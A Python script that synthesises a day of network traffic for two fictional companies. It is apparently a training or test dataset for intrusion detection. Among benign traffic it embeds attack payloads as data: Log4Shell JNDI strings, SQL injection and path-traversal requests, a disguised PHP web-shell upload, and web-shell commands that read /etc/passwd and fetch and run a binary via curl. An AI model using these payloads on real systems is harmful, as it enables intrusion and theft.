"""One working day of two made-up customers, as packets.

Every address outside is from the ranges kept for documentation, every host and name is made up.
"""

import struct

from scapy.all import ICMP, IP, Raw

from wire import SECOND, Wire, clock

EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Edg/141.0"
IMPLANT = "Mozilla/4.0 (compatible; MSIE 7.0)"
NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)"
SQLMAP = "sqlmap/1.8.4#stable (https://sqlmap.org)"
PAGES = ["/", "/orders", "/orders/open", "/stock?part=4711", "/shifts", "/static/app.css", "/help"]
SHOP = ["/", "/shoes", "/shoes/trail-21", "/cart", "/search?q=jacket", "/static/shop.js", "/terms"]


def acme():
    """A manufacturer: a brute force on the jump host that succeeds, and what comes of it."""
    w = Wire("acme")
    dc, files, jump, erp, scanner, hist = (f"10.20.1.{n}" for n in (10, 20, 30, 40, 90, 60))
    desks = [f"10.20.10.{n}" for n in range(101, 131)]
    hmi, plcs, attacker, control = "10.20.50.5", [f"10.20.50.{n}" for n in (11, 12,
                                                                            13)], "203.0.113.77", "198.51.100.23"
    # An ordinary day.
    for at in w.spread("08:00:00", "16:20:00", 90):
        w.http(at, w.rng.choice(desks), erp, "erp.acme.example", w.rng.choice(PAGES), agent=EDGE)
    for at in w.spread("08:00:00", "16:20:00", 70):
        desk, name = w.rng.choice(desks), w.rng.choice(["www", "mail", "docs", "parts"]) + ".vendor.example"
        w.dns(at, desk, dc, name)
        w.tls(at + SECOND, desk, "203.0.113.80", name)
    for at in w.spread("08:00:00", "16:20:00", 40):
        w.smb(at, w.rng.choice(desks), files, "\\\\acme-fs1\\drawings")
    for at in w.every("08:00:00", "16:20:00", 900):
        w.modbus(at, hmi, w.rng.choice(plcs), write=False)
    for at in w.spread("08:10:00", "16:00:00", 9):
        w.ssh(at, "10.20.10.114", jump, "mbauer", result="accepted")
    # What alerts every day and means nothing: a job over FTP, an old panel, printers, the own scanner.
    for at in w.every("08:05:00", "16:20:00", 900, jitter=1_500):
        w.ftp(at, hist, files, "histsync", "Line4-export")
    for at in w.every("08:02:00", "16:20:00", 1_200, jitter=900):
        w.tls(at, hmi, hist, "acme-hist1.acme.example", version=0x0301)
    for at in w.spread("08:00:00", "16:20:00", 34):
        w.http(at, w.rng.choice(desks), "10.20.10.9", "acme-prn-02", "/status.xml", agent=EDGE,
               headers=["Authorization: Basic b3BlcmF0b3I6cHJpbnQ="])
    for at in w.every("08:00:30", "16:20:00", 1_500, jitter=700):
        w.http(at, erp, "203.0.113.90", "feed.steelprices.example", "/v1/today.csv", agent="curl/7.88.1")
    for n, target in enumerate((files, erp, hist)):
        w.scan(clock("08:30:00") + n * 300 * SECOND, scanner, target, range(1, 121))
    ask = b"\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=helpdesk\r\n\x01\0\x08\0\x03\0\0\0"
    for at in w.spread("09:00:00", "15:00:00", 7):
        w.tcp(at, w.rng.choice(desks), dc, 3389, [(True, ask), (False, b"\x03\0\0\x0b\x06\xd0\0\0\x12\x34\0")])
    for at in w.spread("08:00:00", "16:00:00", 8):
        w.http(at, w.rng.choice(desks), "203.0.113.99", "v4.myaddress.example", "/", reply=b"203.0.113.5", agent=EDGE)
    # 09:05 a scan from outside, 09:18 guessing of passwords, 09:27 one is right.
    w.scan(clock("09:05:12"), attacker, jump, range(20, 120), gap=90_000)
    names = ["root", "admin", "oracle", "backup", "mbauer", "jkeller", "test", "postgres"]
    for n in range(88):
        user = names[n % len(names)]
        known = user in ("root", "backup", "mbauer", "jkeller")
        w.ssh(clock("09:18:40") + n * 6 * SECOND + w.rng.randint(0, 400_000), attacker, jump, user,
              software="libssh_0.9.6", result="failed" if known else "invalid")
    w.ssh(clock("09:27:41"), attacker, jump, "mbauer", software="libssh_0.9.6", result="accepted")
    # The implant reports every five minutes from then on.
    w.http(clock("09:33:10"), jump, control, "cdn-eu.example", "/pkg/agent.bin", agent="curl/7.88.1",
           reply=b"\x7fELF" + bytes(1_900))
    for at in w.every("09:40:00", "16:20:00", 300, jitter=350):
        w.http(at, jump, control, "cdn-eu.example", "/v2/pulse", method="POST", agent=IMPLANT,
               body=b"id=7f31&s=" + w.label(48).encode(), reply=b"ok")
    # 09:50 it looks around, 10:05 it moves.
    for n in range(1, 121):
        packet = ICMP(id=77, seq=n) / Raw(bytes(32))
        w.put(clock("09:50:20") + n * 110_000, jump, IP(src=jump, dst=f"10.20.1.{n}") / packet)
    for host in (erp, hist):
        w.ssh(clock("10:05:09") + (host == hist) * 95 * SECOND, jump, host, "svc-update", result="accepted")
    for n in range(9):
        w.smb(clock("10:11:30") + n * 47 * SECOND, jump, (files, dc)[n % 2],
              "\\\\%s\\ADMIN$" % ("acme-fs1", "acme-dc1")[n % 2])
    transfer = struct.pack(">HHHHHHH", 30, 9, 0, 1, 0, 0, 0) + b"\4acme\7example\0\0\xfc\0\1"
    w.tcp(clock("10:20:02"), jump, dc, 53, [(True, transfer)])
    for n in range(12):
        w.modbus(clock("11:20:15") + n * 8 * SECOND, jump, plcs[n % 3], write=True)
    for n in range(6):
        w.tcp(clock("11:02:40") + n * 31 * SECOND, jump, plcs[n % 3], 23,
              [(False, b"PLC-S4 login: "), (True, b"service\r\n"), (False, b"Password: ")])
    for at in w.every("10:31:00", "16:10:00", 1_200, jitter=2_000):
        w.stratum(at, hist, "198.51.100.61", "47x" + "a1b2c3d4" * 4 + ".hist")
    # Apart from that, a workstation with something bad of its own.
    w.http(clock("10:44:05"), "10.20.10.121", "198.51.100.88", "free-cad-viewer.example", "/setup.exe", agent=EDGE,
           kind="application/octet-stream",
           reply=b"MZ" + bytes(76) + b"This program cannot be run in DOS mode.\r\n" + bytes(1_500))
    for at in w.spread("10:50:00", "16:15:00", 46):
        w.dns(at, "10.20.10.121", dc, w.label(18) + w.rng.choice([".top", ".top", ".info"]), answer=None)
    for n, at in enumerate(w.spread("13:05:00", "13:40:00", 14)):
        w.smb(at, "10.20.10.121", desks[n], f"\\\\ACME-WS-{n + 1:03d}\\C$")
    for n in range(8):
        w.http(clock("14:10:00") + n * 13 * SECOND, f"198.51.100.{140 + n % 3}", erp, "erp.acme.example", "/login",
               status=404,
               headers=["X-Api-Version: ${jndi:ldap://198.51.100.140:1389/%s}" % w.label(6)],
               agent="Mozilla/5.0 zgrab/0.x")
    return w


def globex():
    """A web shop: it is scanned, a script is uploaded to it and used, and then a miner runs on it."""
    w = Wire("globex")
    webs, mail, app, database = ("172.16.5.11", "172.16.5.12"), "172.16.5.20", "192.168.40.31", "192.168.40.21"
    resolver, laptops = "192.168.40.10", [f"192.168.40.{n}" for n in range(101, 116)]
    shop, scanner, intruder = "shop.globex.example", "198.51.100.140", "203.0.113.150"
    # An ordinary day.
    for at in w.spread("08:00:00", "16:20:00", 170):
        w.http(at, f"203.0.113.{w.rng.randint(10, 70)}", w.rng.choice(webs), shop, w.rng.choice(SHOP))
    for at in w.spread("08:00:00", "16:20:00", 60):
        laptop, name = w.rng.choice(laptops), w.rng.choice(["www", "pay", "track", "ads"]) + ".partner.example"
        w.dns(at, laptop, resolver, name)
        w.tls(at + SECOND, laptop, "203.0.113.81", name)
    for at in w.spread("08:20:00", "16:00:00", 8):
        w.ssh(at, "192.168.40.104", webs[0], "deploy", result="accepted")
    # What alerts every day and means nothing.
    for at in w.every("08:03:00", "16:20:00", 840, jitter=1_800):
        w.http(at, "198.51.100.200", webs[0], shop, "/feed/prices.json", agent="python-requests/2.32.3")
    for at in w.every("08:11:00", "16:20:00", 2_400, jitter=1_200):
        w.ftp(at, "198.51.100.77", mail, "catalogue", "summer-catalogue")
    for at in w.spread("08:00:00", "16:20:00", 16):
        w.dns(at, w.rng.choice(laptops), resolver, "stats.tiny-widgets.xyz")
    for at in w.every("08:00:20", "16:20:00", 1_800, jitter=600):
        w.http(at, app, "203.0.113.95", "rates.bank.example", "/eur.xml", agent="curl/8.5.0")
    for at in w.every("08:07:00", "16:20:00", 3_600, jitter=800):
        w.ssh(at, app, "203.0.113.96", "sync", port=2222)
    for at in w.spread("08:30:00", "16:00:00", 16):
        w.tls(at, "192.168.40.60", "203.0.113.97", "till.terminals.example", version=0x0301)
    # 08:38 a scan, 08:41 nikto, 09:02 sqlmap.
    for n, web in enumerate(webs):
        w.scan(clock("08:38:00") + n * 40 * SECOND, scanner, web, range(1, 131), gap=200_000)
    paths = ["/admin/", "/backup.zip", "/.env", "/phpinfo.php", "/.git/config", "/cgi-bin/test.cgi", "/server-status",
             "/old/", "/%2e%2e%2f%2e%2e%2fetc/passwd", "/index.php?page=../../../../etc/passwd",
             "/search?q=<script>alert(1)</script>"]
    for n in range(99):
        w.http(clock("08:41:10") + n * 2_300_000, scanner, webs[0], shop, paths[n % len(paths)], agent=NIKTO % (n + 1),
               status=404)
    for n in range(48):
        query = "1" if n % 4 else f"-{n}%20UNION%20ALL%20SELECT%20{n},NULL,NULL--%20-"
        w.http(clock("09:02:30") + n * 1_700_000, intruder, webs[1], shop, f"/shoes/list?size={query}", agent=SQLMAP,
               status=200 if n % 4 else 500)
    for n in range(14):
        w.http(clock("09:20:00") + n * 21 * SECOND, intruder, webs[n % 2], shop,
               "/download?file=../../../../var/www/" + w.label(5), status=403)
    for n in range(20):
        lookup = "${${lower:j}ndi:ldap://203.0.113.150/%s}" if n % 3 == 0 else "${jndi:ldap://203.0.113.150:1389/%s}"
        w.http(clock("09:41:00") + n * 9 * SECOND, intruder, webs[n % 2], shop, "/search?q=hat",
               headers=["X-Forwarded-For: " + lookup % w.label(4)])
    for at in w.every("09:50:00", "10:14:00", 9, jitter=3_000):
        w.http(at, f"198.51.100.{210 + w.rng.randint(0, 2)}", webs[0], shop, "/account/login", method="POST",
               status=401,
               body=f"mail={w.label(6)}@mail.example&word={w.label(8)}".encode())
    # 10:18 the upload, and what is done with it.
    form = (b'--b1\r\nContent-Disposition: form-data; name="picture"; filename="invoice-2291.php"\r\n'
            b"Content-Type: image/png\r\n\r\n(a script of one line)\r\n--b1--\r\n")
    w.http(clock("10:18:22"), intruder, webs[0], shop, "/account/picture", method="POST", body=form,
           headers=["Content-Type: multipart/form-data; boundary=b1"], status=302)
    commands = ["id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/var/www", "ss%20-tlnp",
                "cat%20/var/www/shop/config.php", "id", "ps%20aux",
                "crontab%20-l", "curl%20-o%20/tmp/.x%20http://198.51.100.61/x", "chmod%20755%20/tmp/.x",
                "nohup%20/tmp/.x", "id"]
    for n, command in enumerate(commands * 2):
        reply = b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n" if command == "id" else None
        w.http(clock("10:19:04") + n * 74 * SECOND, intruder, webs[0], shop, f"/uploads/invoice-2291.php?cmd={command}",
               reply=reply)
    w.http(clock("10:30:12"), webs[0], "198.51.100.61", "198.51.100.61", "/x", agent="curl/7.88.1",
           reply=b"\x7fELF" + bytes(2_400))
    for at in w.every("11:00:00", "16:15:00", 900, jitter=2_500):
        w.stratum(at, webs[0], "198.51.100.61", "48y" + "e5f60718" * 4 + ".web01")
    # 12:30 the application server sends something out by names, and reports.
    for n in range(60):
        w.dns(clock("12:30:00") + n * 11 * SECOND, app, resolver, f"{w.label(44)}.t{n:02d}.sync-cdn.example",
              kind="TXT", answer="ok")
    for at in w.every("12:45:00", "16:20:00", 600, jitter=400):
        w.http(at, app, "198.51.100.23", "cdn-eu.example", "/v2/pulse", method="POST", agent=IMPLANT,
               body=b"id=02ac&s=" + w.label(48).encode(), reply=b"ok")
    for n in range(44):
        w.ssh(clock("13:30:00") + n * 6 * SECOND, f"203.0.113.{200 + n % 4}", webs[1],
              ("root", "git", "ubuntu", "deploy")[n % 4],
              software="libssh2_1.10.0" if n % 2 else "OpenSSH_8.0", result="failed" if n % 4 in (0, 3) else "invalid")
    w.scan(clock("14:05:00"), app, database, range(1_400, 1_480))
    return w
